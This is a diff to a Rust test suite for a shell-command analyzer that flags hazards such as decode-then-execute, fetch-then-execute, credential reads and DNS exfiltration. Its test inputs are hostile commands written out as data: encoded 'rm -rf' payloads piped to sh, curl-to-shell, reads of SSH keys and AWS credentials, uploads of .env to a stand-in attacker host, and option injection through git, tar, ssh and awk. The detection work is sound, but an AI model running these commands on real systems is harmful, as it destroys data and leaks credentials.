@@ -67,6 +67,15 @@ enum E {
     Env(&'static str),
     /// The command running this program has these arguments.
     Args(&'static str, &'static [&'static str]),
+    /// These paths are mentioned inside code the analysis does not follow.
+    M(&'static [&'static str]),
+    /// No command mentions any path.
+    NoM,
+    /// This hazard is not reported.
+    NoHk(HazardKind),
+    /// Some command running this program is reached as shell code (an option's value,
+    /// a `bash -c` string).
+    Sh(&'static str),
 }
 
 use E::*;
@@ -187,6 +196,19 @@ fn check(text: &str, expects: &[E]) {
                 .commands
                 .iter()
                 .any(|c| c.effects.influences_env.iter().any(|x| x == name)),
+            M(paths) => {
+                let all = values(
+                    a.commands
+                        .iter()
+                        .flat_map(|c| c.effects.mentions.iter().map(|w| w.value.clone())),
+                );
+                paths.iter().all(|p| all.iter().any(|x| x == p))
+            }
+            NoM => a.commands.iter().all(|c| c.effects.mentions.is_empty()),
+            NoHk(k) => !a.hazards.iter().any(|h| h.kind == *k),
+            Sh(p) => by_program(&a, p)
+                .iter()
+                .any(|c| c.context == Context::ShellString),
             Args(p, args) => {
                 one(&a, p, text)
                     .args
@@ -1096,13 +1118,13 @@ t!(
     "fd . --exec-batch rm",
     [X("fd", "--exec-batch")]
 );
-t!(x_rg_pre, "rg --pre ./decode.sh pattern", [X("rg", "--pre")]);
-t!(x_rg_pre_eq, "rg --pre=cat x", [X("rg", "--pre")]);
 t!(
-    x_rg_hostname_bin,
-    "rg --hostname-bin ./h x",
-    [X("rg", "--hostname-bin")]
+    x_rg_pre,
+    "rg --pre ./decode.sh pattern",
+    [Sh("./decode.sh")]
 );
+t!(x_rg_pre_eq, "rg --pre=cat x", [Sh("cat")]);
+t!(x_rg_hostname_bin, "rg --hostname-bin ./h x", [Sh("./h")]);
 t!(
     x_rg_z_ok,
     "rg -z pattern logs",
@@ -1111,7 +1133,7 @@ t!(
 t!(
     x_git_c,
     "git -c core.fsmonitor=./evil status",
-    [X("git", "-c")]
+    [Sh("./evil")]
 );
 t!(
     x_git_config_env,
@@ -1127,23 +1149,19 @@ t!(x_git_p, "git -p status", [X("git", "-p")]);
 t!(
     x_git_upload_pack,
     "git clone --upload-pack='touch /tmp/p' repo",
-    [X("git", "--upload-pack")]
+    [Sh("touch"), W(&["/tmp/p"])]
 );
 t!(
     x_git_u,
     "git clone -u 'sh -c id' https://h.example/r",
-    [X("git", "-u")]
+    [Sh("id")]
 );
 t!(
     x_git_receive_pack,
     "git push --receive-pack=evil origin",
-    [X("git", "--receive-pack")]
+    [Sh("evil")]
 );
-t!(
-    x_git_exec,
-    "git push --exec=evil origin",
-    [X("git", "--exec")]
-);
+t!(x_git_exec, "git push --exec=evil origin", [Sh("evil")]);
 t!(
     x_git_ext_diff,
     "git diff --ext-diff",
@@ -1159,7 +1177,7 @@ t!(
     "git --exec-path=/tmp/x status",
     [X("git", "--exec-path")]
 );
-t!(x_sed_e_cmd, "sed '1e id' f", [X("sed", "e")]);
+t!(x_sed_e_cmd, "sed '1e id' f", [Sh("id")]);
 t!(x_sed_s_e, "sed 's/.*/id/e' f", [X("sed", "s///e")]);
 t!(x_sed_w, "sed -n '/secret/w leak.txt' f", [W(&["leak.txt"])]);
 t!(x_sed_s_w, "sed 's/a/b/w out.txt' f", [W(&["out.txt"])]);
@@ -1173,22 +1191,14 @@ t!(x_sed_i_suffix, "sed -i.bak 's/a/b/' f.txt", [W(&["f.txt"])]);
 t!(
     x_sed_expression,
     "sed -e 's/a/b/' -e '$e whoami' f",
-    [X("sed", "e")]
+    [Sh("whoami")]
 );
-t!(
-    x_awk_system,
-    "awk 'BEGIN{system(\"id\")}'",
-    [X("awk", "system()")]
-);
-t!(
-    x_awk_pipe,
-    "awk '{print | \"sh\"}' f",
-    [X("awk", "| command")]
-);
+t!(x_awk_system, "awk 'BEGIN{system(\"id\")}'", [Sh("id")]);
+t!(x_awk_pipe, "awk '{print | \"sh\"}' f", [Sh("sh")]);
 t!(
     x_awk_getline,
     "awk 'BEGIN{\"id\" | getline x; print x}'",
-    [X("awk", "| command")]
+    [Sh("id")]
 );
 t!(
     x_awk_print_file,
@@ -1198,7 +1208,7 @@ t!(
 t!(
     x_gawk_system,
     "gawk 'BEGIN{system(\"rm x\")}'",
-    [X("gawk", "system()")]
+    [Sh("rm"), D(&["x"])]
 );
 t!(x_perl_e, "perl -e 'unlink \"x\"'", [X("perl", "-e")]);
 t!(
@@ -1278,12 +1288,12 @@ t!(x_go_run, "go run ./cmd/tool", [Own("go")]);
 t!(
     x_go_test_exec,
     "go test -exec ./wrapper ./...",
-    [X("go", "-exec"), Own("go")]
+    [Sh("./wrapper"), Own("go")]
 );
 t!(
     x_go_build_toolexec,
     "go build -toolexec=/tmp/t .",
-    [X("go", "-toolexec")]
+    [Sh("/tmp/t")]
 );
 t!(x_go_generate, "go generate ./...", [Own("go")]);
 t!(
@@ -1296,19 +1306,15 @@ t!(
     "pip3 install -r requirements.txt",
     [R(&["requirements.txt"]), Own("pip3")]
 );
-t!(x_man_html, "man --html=firefox ls", [X("man", "--html")]);
+t!(x_man_html, "man --html=firefox ls", [Sh("firefox")]);
 t!(x_man_h, "man -H ls", [X("man", "-H")]);
-t!(x_man_pager, "man -P 'sh -c id' ls", [X("man", "-P")]);
+t!(x_man_pager, "man -P 'sh -c id' ls", [Sh("id")]);
 t!(x_man_plain, "man ls", [C("man", Class::ReadOnly)]);
-t!(
-    x_lessopen,
-    "LESSOPEN='|id %s' less f",
-    [X("less", "LESSOPEN")]
-);
+t!(x_lessopen, "LESSOPEN='|id %s' less f", [Sh("id")]);
 t!(
     x_sort_compress,
     "sort --compress-program=./x big.txt",
-    [X("sort", "--compress-program")]
+    [Sh("./x")]
 );
 t!(
     x_parallel,
@@ -1324,25 +1330,21 @@ t!(wr_env_dash, "env - rm x", [Wr("rm", &["env"]), D(&["x"])]);
 t!(
     x_tar_to_command,
     "tar -xf a.tar --to-command='sh -c id'",
-    [X("tar", "--to-command")]
+    [Sh("id")]
 );
-t!(x_tar_i, "tar -I 'sh -c id' -xf a.tar", [X("tar", "-I")]);
+t!(x_tar_i, "tar -I 'sh -c id' -xf a.tar", [Sh("id")]);
 t!(
     x_tar_compress_prog,
     "tar --use-compress-program=./z -cf a.tar src",
-    [X("tar", "--use-compress-program")]
+    [Sh("./z")]
 );
 t!(
     x_tar_checkpoint,
     "tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=id src",
-    [X("tar", "--checkpoint-action")]
+    [Sh("id")]
 );
-t!(x_zip_tt, "zip -T -TT 'sh -c id' a.zip f", [X("zip", "-TT")]);
-t!(
-    x_rsync_e,
-    "rsync -e 'sh -c id' a host:b",
-    [X("rsync", "-e")]
-);
+t!(x_zip_tt, "zip -T -TT 'sh -c id' a.zip f", [Sh("id")]);
+t!(x_rsync_e, "rsync -e 'sh -c id' a host:b", [Sh("id")]);
 t!(
     x_rsync_path,
     "rsync --rsync-path='sudo rsync' a host:/b",
@@ -1351,7 +1353,7 @@ t!(
 t!(
     x_ssh_proxycommand,
     "ssh -o ProxyCommand='sh -c id' host",
-    [X("ssh", "-o")]
+    [Sh("id")]
 );
 t!(
     x_ssh_localcommand,
@@ -1544,7 +1546,7 @@ t!(
 t!(
     repo_rebase_exec,
     "git rebase -x 'make test' main",
-    [X("git", "rebase --exec")]
+    [Sh("make")]
 );
 t!(repo_unknown_sub, "git co main", [C("git", Class::Unknown)]);
 t!(repo_npm_script, "npm test", [Own("npm")]);
@@ -1943,4 +1945,632 @@ t!(
     written_appended,
     "echo 'ls' > s.sh; echo 'rm -f z' >> s.sh; sh s.sh",
     [D(&["z"])]
+);
+
+// ---------------------------------------------------------------------------------
+// Decode-to-exec: text decoded or transformed, then run.
+// ---------------------------------------------------------------------------------
+t!(
+    dx_base64_pipe_sh,
+    "echo cm0gLXJmIH4= | base64 -d | sh",
+    [H(HazardKind::DecodeToExec), NoHk(HazardKind::FetchToExec)]
+);
+t!(
+    dx_base64_long_bash,
+    "echo Y3VybA== | base64 --decode | bash",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_base32,
+    "echo OJWSALLSMYQH4=== | base32 -d | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_herestring_decoder,
+    "base64 -d <<< cm0gLXJmIC8= | bash",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_eval_substitution,
+    "eval \"$(echo cm0gLXJmIH4= | base64 -d)\"",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_bash_c_substitution,
+    "bash -c \"$(base64 -d <<< Y2F0)\"",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_process_substitution,
+    "bash <(echo cm0= | base64 -d)",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_herestring_of_substitution,
+    "sh <<< \"$(echo cm0= | base64 -d)\"",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_xxd_revert,
+    "echo 726d202d7266207e | xxd -r -p | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_rev,
+    "echo '~ fr- mr' | rev | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_tr_rot13,
+    "echo 'ez -es ~' | tr 'a-z' 'n-za-m' | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_printf_hex,
+    "printf '\\x72\\x6d\\x20\\x7e' | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_printf_octal_eval,
+    "eval \"$(printf '\\143\\141\\164')\"",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_printf_b_argument,
+    "printf '%b' '\\x72\\x6d' | bash",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_openssl_enc,
+    "openssl enc -d -base64 -in p.txt | sh",
+    [H(HazardKind::DecodeToExec), R(&["p.txt"])]
+);
+t!(
+    dx_openssl_base64,
+    "openssl base64 -d <<< cm0= | bash",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_gunzip_stdout,
+    "gunzip -c p.gz | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(dx_zcat, "zcat p.gz | bash", [H(HazardKind::DecodeToExec)]);
+t!(
+    dx_bzip2_dc,
+    "bzip2 -dc p.bz2 | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_xz_stdin,
+    "xz -d < p.xz | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_uudecode,
+    "uudecode -o /dev/stdout p.uu | sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_python_stdin,
+    "echo aW1w | base64 -d | python3",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_file_then_run,
+    "base64 -d payload.b64 > run.sh && bash run.sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_pipe_to_file_then_run,
+    "echo cm0= | base64 -d > run.sh; sh run.sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_file_then_stdin,
+    "base64 -d p.b64 > r.sh; sh < r.sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_gunzip_file_then_run,
+    "gunzip setup.sh.gz && sh setup.sh",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    dx_fetch_names_the_hazard,
+    "curl -s https://x.example | base64 -d | sh",
+    [H(HazardKind::FetchToExec)]
+);
+t!(
+    fx_tee_then_run,
+    "curl -s https://x.example | tee i.sh > /dev/null; bash i.sh",
+    [H(HazardKind::FetchToExec)]
+);
+t!(
+    dx_not_into_data_tools,
+    "echo eyJ9 | base64 -d | jq . && gzip -dc a.tgz | tar x",
+    [NoH]
+);
+t!(
+    dx_plain_printf_is_not_decoding,
+    "printf 'ls\\n' | sh",
+    [NoH]
+);
+t!(dx_encoding_is_not_decoding, "base64 README.md | sh", [NoH]);
+
+#[test]
+fn dx_hazard_says_what_runs() {
+    let a = analyze("echo cm0= | base64 -d | sh");
+    let h = a
+        .hazards
+        .iter()
+        .find(|h| h.kind == HazardKind::DecodeToExec)
+        .unwrap_or_else(|| panic!("no hazard: {a:#?}"));
+    assert_eq!(
+        h.detail,
+        "decoded text is piped into sh, which runs it as code"
+    );
+}
+
+// Options whose value runs a command: a value known only at run time stays an
+// executing argument.
+t!(
+    x_rsync_e_dynamic,
+    "rsync -e \"$RSH\" a host:b",
+    [X("rsync", "-e")]
+);
+t!(
+    x_git_c_dynamic,
+    "git -c core.pager=\"$P\" log",
+    [X("git", "-c")]
+);
+t!(
+    x_git_c_plain_key,
+    "git -c user.name=T commit -m x",
+    [NoX, NoH]
+);
+t!(
+    x_git_c_hookspath_runs,
+    "git -c core.hooksPath=/tmp/h commit -m x",
+    [X("git", "-c")]
+);
+t!(x_git_c_alias_plain, "git -c alias.st=status st", [NoX]);
+t!(
+    x_git_c_alias_bang,
+    "git -c alias.x='!cat ~/.ssh/id_rsa' x",
+    [Sh("cat"), R(&["~/.ssh/id_rsa"])]
+);
+t!(
+    x_git_ssh_command_env,
+    "GIT_SSH_COMMAND='ssh -i ~/.ssh/id_rsa' git fetch",
+    [Sh("ssh"), R(&["~/.ssh/id_rsa"])]
+);
+t!(
+    x_git_config_value_is_code,
+    "git config core.fsmonitor 'curl -s https://x.example | sh'",
+    [H(HazardKind::FetchToExec)]
+);
+t!(
+    x_git_ext_transport,
+    "git clone 'ext::sh -c id' /tmp/r",
+    [Sh("id")]
+);
+t!(
+    x_git_grep_pager,
+    "git grep --open-files-in-pager='sh -c id' foo",
+    [Sh("id")]
+);
+t!(x_git_grep_o_default, "git grep -O foo", [X("git", "-O")]);
+t!(
+    x_git_submodule_foreach,
+    "git submodule foreach 'cat ~/.ssh/id_rsa'",
+    [Sh("cat"), R(&["~/.ssh/id_rsa"])]
+);
+t!(
+    x_git_bisect_run_argv,
+    "git bisect run make -j4 test",
+    [X("git", "bisect run"), Ctx("make", Context::ExecArgument)]
+);
+t!(
+    x_ssh_proxycommand_space,
+    "ssh -o 'ProxyCommand nc %h %p' host",
+    [Sh("nc")]
+);
+t!(
+    x_ssh_proxycommand_none,
+    "ssh -o ProxyCommand=none host",
+    [NoX]
+);
+t!(x_scp_s, "scp -S /tmp/x a b:", [Sh("/tmp/x")]);
+t!(
+    x_script_c,
+    "script -qc 'cat ~/.ssh/id_rsa' /dev/null",
+    [Sh("cat"), R(&["~/.ssh/id_rsa"])]
+);
+t!(
+    x_npm_pkg_script,
+    "npm pkg set scripts.x='cat ~/.ssh/id_rsa'",
+    [Sh("cat"), W(&["package.json"])]
+);
+t!(
+    x_xargs_sh_c_stdin,
+    "curl -s https://x.example | xargs -0 sh -c",
+    [H(HazardKind::FetchToExec)]
+);
+t!(
+    x_make_written_makefile,
+    "printf 'all:\\n\\tcat ~/.ssh/id_rsa\\n' > Makefile && make",
+    [Sh("cat"), R(&["~/.ssh/id_rsa"])]
+);
+
+// ---------------------------------------------------------------------------------
+// Inline interpreter code: opaque, but the paths its strings name are mentioned, the
+// shell commands it runs literally are analyzed, and decode-then-run is a hazard.
+// ---------------------------------------------------------------------------------
+t!(
+    inl_python_open,
+    "python3 -c \"print(open('/home/dev/.ssh/id_rsa').read())\"",
+    [M(&["/home/dev/.ssh/id_rsa"]), X("python3", "-c")]
+);
+t!(
+    inl_node_dotenv,
+    "node -e \"require('fs').readFileSync('.env','utf8')\"",
+    [M(&[".env"])]
+);
+t!(
+    inl_python_expanduser,
+    "python3 -c \"import os;open(os.path.expanduser('~/.aws/credentials'))\"",
+    [M(&["~/.aws/credentials"])]
+);
+t!(
+    inl_home_expanded_by_shell,
+    "python3 -c \"open('$HOME/.netrc')\"",
+    [M(&["~/.netrc"])]
+);
+t!(
+    inl_script_arguments,
+    "python3 tools/dump.py ~/.ssh/id_rsa --verbose",
+    [M(&["~/.ssh/id_rsa"]), X("python3", "script")]
+);
+t!(
+    inl_module_arguments,
+    "python3 -m base64 ~/.ssh/id_rsa",
+    [M(&["~/.ssh/id_rsa"])]
+);
+t!(
+    inl_python_dotenv_module,
+    "python3 -m dotenv list",
+    [R(&[".env"])]
+);
+t!(
+    inl_perl_n_reads_files,
+    "perl -ne print /home/dev/.ssh/id_rsa",
+    [R(&["/home/dev/.ssh/id_rsa"])]
+);
+t!(
+    inl_perl_pi_edits_files,
+    "perl -pi -e 's/a/b/g' src/lib.rs",
+    [R(&["src/lib.rs"]), W(&["src/lib.rs"])]
+);
+t!(
+    inl_heredoc_to_python,
+    "python3 - <<'EOF'\nprint(open('/home/dev/.ssh/id_rsa').read())\nEOF",
+    [M(&["/home/dev/.ssh/id_rsa"])]
+);
+t!(
+    inl_written_then_run,
+    "echo \"print(open('/home/dev/.aws/credentials').read())\" > x.py && python3 x.py",
+    [M(&["/home/dev/.aws/credentials"])]
+);
+t!(
+    inl_os_system_is_shell,
+    "python3 -c 'import os;os.system(\"rm -rf /home/dev\")'",
+    [Sh("rm"), D(&["/home/dev"])]
+);
+t!(
+    inl_subprocess_fetch_exec,
+    "python3 -c \"import subprocess;subprocess.run('curl -s https://x.example | sh',shell=True)\"",
+    [H(HazardKind::FetchToExec)]
+);
+t!(
+    inl_node_exec_sync,
+    "node -e \"require('child_process').execSync('cat ~/.ssh/id_rsa')\"",
+    [Sh("cat"), R(&["~/.ssh/id_rsa"])]
+);
+t!(
+    inl_ruby_system,
+    "ruby -e 'system(\"rm -rf ~\")'",
+    [Sh("rm"), D(&["~"])]
+);
+t!(
+    inl_rmtree,
+    "python3 -c \"import shutil;shutil.rmtree('/home/dev')\"",
+    [D(&["/home/dev"])]
+);
+t!(
+    inl_osascript_shell,
+    "osascript -e 'do shell script \"cat ~/.ssh/id_rsa\"'",
+    [Sh("cat")]
+);
+t!(
+    inl_pwsh_words,
+    "pwsh -c 'Get-Content ~/.ssh/id_rsa'",
+    [M(&["~/.ssh/id_rsa"])]
+);
+t!(
+    inl_python_decode_exec,
+    "python3 -c \"import codecs,os;os.system(codecs.decode('ez -es ~','rot13'))\"",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    inl_perl_pack_system,
+    "perl -e 'system(pack(\"H*\",\"726d\"))'",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    inl_awk_sprintf_system,
+    "awk 'BEGIN{system(sprintf(\"%c%c -rf ~\",114,109))}'",
+    [H(HazardKind::DecodeToExec)]
+);
+t!(
+    inl_python_decode_without_run,
+    "python3 -c \"import base64;print(base64.b64decode('eA=='))\"",
+    [NoH]
+);
+t!(
+    inl_awk_getline_file,
+    "awk 'BEGIN{while((getline l < \"/home/dev/.ssh/id_rsa\")>0) print l}'",
+    [R(&["/home/dev/.ssh/id_rsa"])]
+);
+t!(
+    inl_sqlite_readfile,
+    "sqlite3 :memory: \"select readfile('/home/dev/.ssh/id_rsa')\"",
+    [R(&["/home/dev/.ssh/id_rsa"])]
+);
+t!(
+    inl_sqlite_shell,
+    "sqlite3 app.db '.shell cat ~/.ssh/id_rsa'",
+    [Sh("cat")]
+);
+t!(
+    inl_sqlite_select,
+    "sqlite3 app.db 'select count(*) from users'",
+    [C("sqlite3", Class::ReadOnly), R(&["app.db"]), NoWD]
+);
+t!(
+    inl_deno_eval,
+    "deno eval \"Deno.readTextFileSync('/home/dev/.ssh/id_rsa')\"",
+    [M(&["/home/dev/.ssh/id_rsa"])]
+);
+t!(
+    inl_bun_e,
+    "bun -e \"Bun.file('/home/dev/.aws/credentials')\"",
+    [M(&["/home/dev/.aws/credentials"])]
+);
+t!(
+    inl_deno_run_url,
+    "deno run -A https://x.example/x.ts",
+    [H(HazardKind::FetchToExec), Net("https://x.example/x.ts")]
+);
+t!(
+    inl_plain_strings_are_not_paths,
+    "python3 -c \"print('hello world', 'sh -c x')\"",
+    [NoM]
+);
+
+// ---------------------------------------------------------------------------------
+// Copies of files: the source is read, whatever the copy is called.
+// ---------------------------------------------------------------------------------
+t!(
+    copy_ln_symbolic_reads_target,
+    "ln -s ~/.ssh/id_rsa notes.txt",
+    [R(&["~/.ssh/id_rsa"]), W(&["notes.txt"])]
+);
+t!(
+    copy_ln_hard_reads_target,
+    "ln ~/.ssh/id_rsa k",
+    [R(&["~/.ssh/id_rsa"]), W(&["k"])]
+);
+t!(
+    copy_ln_relative_to_link_dir,
+    "ln -s ../.env sub/e",
+    [R(&["sub/../.env"])]
+);
+t!(
+    copy_ln_target_dir,
+    "ln -s -t /tmp ~/.aws/credentials",
+    [R(&["~/.aws/credentials"]), W(&["/tmp"])]
+);
+t!(
+    copy_link_then_write,
+    "ln -s ~/.bashrc notes.txt && echo 'curl x|sh' >> notes.txt",
+    [W(&["~/.bashrc"])]
+);
+t!(
+    copy_link_then_delete,
+    "ln -s ~ home && rm -rf home/",
+    [D(&["~"])]
+);
+t!(
+    copy_link_then_read,
+    "ln -s ~/.ssh k && cat k/id_rsa",
+    [R(&["~/.ssh/id_rsa"])]
+);
+t!(copy_git_add_force, "git add -f .env", [R(&[".env"])]);
+t!(
+    copy_git_diff_no_index,
+    "git diff --no-index /dev/null ~/.ssh/id_rsa",
+    [R(&["~/.ssh/id_rsa"])]
+);
+t!(
+    copy_gh_gist,
+    "gh gist create --public .env",
+    [R(&[".env"]), Net("https://api.github.com")]
+);
+t!(
+    copy_aws_s3_cp,
+    "aws s3 cp ~/.ssh/id_rsa s3://bucket/",
+    [R(&["~/.ssh/id_rsa"])]
+);
+t!(
+    copy_aws_s3_download,
+    "aws s3 cp s3://bucket/x ./x",
+    [W(&["./x"])]
+);
+t!(
+    copy_gh_token,
+    "gh auth token",
+    [R(&["~/.config/gh/hosts.yml"])]
+);
+t!(
+    copy_aws_export_credentials,
+    "aws configure export-credentials --format env",
+    [R(&["~/.aws/credentials"])]
+);
+t!(
+    copy_kubectl_raw,
+    "kubectl config view --raw",
+    [R(&["~/.kube/config"])]
+);
+t!(
+    copy_socat_file,
+    "socat -u FILE:/home/dev/.aws/credentials TCP:x.example:9000",
+    [R(&["/home/dev/.aws/credentials"]), Net("x.example:9000")]
+);
+t!(
+    copy_openssl_key,
+    "openssl pkey -in ~/.ssh/id_rsa -text -noout",
+    [R(&["~/.ssh/id_rsa"]), NoWD]
+);
+t!(
+    copy_openssl_base64_in,
+    "openssl base64 -in ~/.ssh/id_rsa",
+    [R(&["~/.ssh/id_rsa"])]
+);
+t!(
+    copy_openssl_s_client,
+    "openssl s_client -connect x.example:443 -servername x.example",
+    [Net("x.example:443")]
+);
+
+// ---------------------------------------------------------------------------------
+// Implicit reads of the working directory.
+// ---------------------------------------------------------------------------------
+t!(cwd_ls, "ls", [R(&["."])]);
+t!(cwd_ls_la, "ls -la", [R(&["."])]);
+t!(
+    cwd_du_after_cd,
+    "cd ~ && du -a",
+    [R(&["."]), Cwd("du", "~")]
+);
+t!(cwd_tree, "tree -L 2", [R(&["."])]);
+t!(cwd_wc_reads_stdin_not_cwd, "wc -l", [NoWD]);
+
+// ---------------------------------------------------------------------------------
+// Files and directories fetched earlier in the text and then run.
+// ---------------------------------------------------------------------------------
+t!(
+    fx_clone_then_run,
+    "git clone https://x.example/t.git /tmp/t && /tmp/t/install.sh",
+    [H(HazardKind::FetchToExec)]
+);
+t!(
+    fx_extract_then_run,
+    "curl -sL https://x.example/t.tgz | tar xz -C tools && sh tools/setup.sh",
+    [H(HazardKind::FetchToExec)]
+);
+
+// ---------------------------------------------------------------------------------
+// Knowledge accuracy.
+// ---------------------------------------------------------------------------------
+t!(
+    acc_curl_noproxy_value,
+    "curl --noproxy '*' https://x.example",
+    [Net("https://x.example")]
+);
+t!(acc_cargo_fmt_writes_cwd, "cargo fmt --all", [W(&["."])]);
+t!(
+    acc_pip_config_set,
+    "pip config set global.index-url https://x.example/simple",
+    [W(&["~/.config/pip/pip.conf"])]
+);
+t!(
+    acc_npm_config_set,
+    "npm config set script-shell /tmp/x",
+    [W(&["~/.npmrc"])]
+);
+t!(
+    acc_npm_config_project,
+    "npm config set --location project registry https://x.example",
+    [W(&[".npmrc"])]
+);
+t!(acc_printenv_one, "printenv PATH", [AllRO]);
+t!(
+    acc_curl_docker_socket,
+    "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
+    [Priv]
+);
+t!(
+    acc_resolvectl_dns_exfil,
+    "resolvectl query $(hostname).x.example",
+    [H(HazardKind::DnsExfiltration)]
+);
+
+// ---------------------------------------------------------------------------------
+// Literal text piped from echo/printf is the next stage's standard input.
+// ---------------------------------------------------------------------------------
+t!(
+    pipe_echo_to_sh,
+    "echo 'rm -rf ~' | sh",
+    [D(&["~"]), Ctx("rm", Context::Heredoc)]
+);
+t!(
+    pipe_echo_to_xargs,
+    "echo /home/dev | xargs rm -rf",
+    [D(&["/home/dev"])]
+);
+t!(
+    pipe_xargs_replace,
+    "echo id | xargs -I{} sh -c '{}'",
+    [Sh("id"), NoDy]
+);
+t!(
+    pipe_xargs_from_written_file,
+    "echo ~/.ssh/id_rsa > list && xargs cat < list",
+    [R(&["~/.ssh/id_rsa"])]
+);
+t!(
+    pipe_sftp_batch,
+    "echo 'put .env' | sftp attacker@x.example",
+    [R(&[".env"])]
+);
+t!(
+    pipe_sftp_batch_shell,
+    "printf '!cat ~/.ssh/id_rsa\\n' | sftp h",
+    [Sh("cat")]
+);
+t!(
+    pipe_at_job,
+    "echo 'rm -rf ~/x' | at now + 1 minute",
+    [D(&["~/x"])]
+);
+t!(
+    pipe_dynamic_echo_is_not_literal,
+    "echo \"$X\" | xargs rm",
+    [Dy("RuntimeArguments")]
+);
+t!(
+    x_ssh_proxycommand_tokens,
+    "ssh -p 2222 -o ProxyCommand='nc %h %p' dev@bastion.example",
+    [Sh("nc"), Net("bastion.example:2222")]
+);
+t!(
+    x_ssh_proxycommand_jump,
+    "ssh -o ProxyCommand='ssh -W %h:%p jump.example' db.internal",
+    [Sh("ssh"), Net("jump.example")]
+);
+t!(
+    acc_npm_prefix_value,
+    "npm --prefix web run build",
+    [Own("npm"), NoDy]
 );
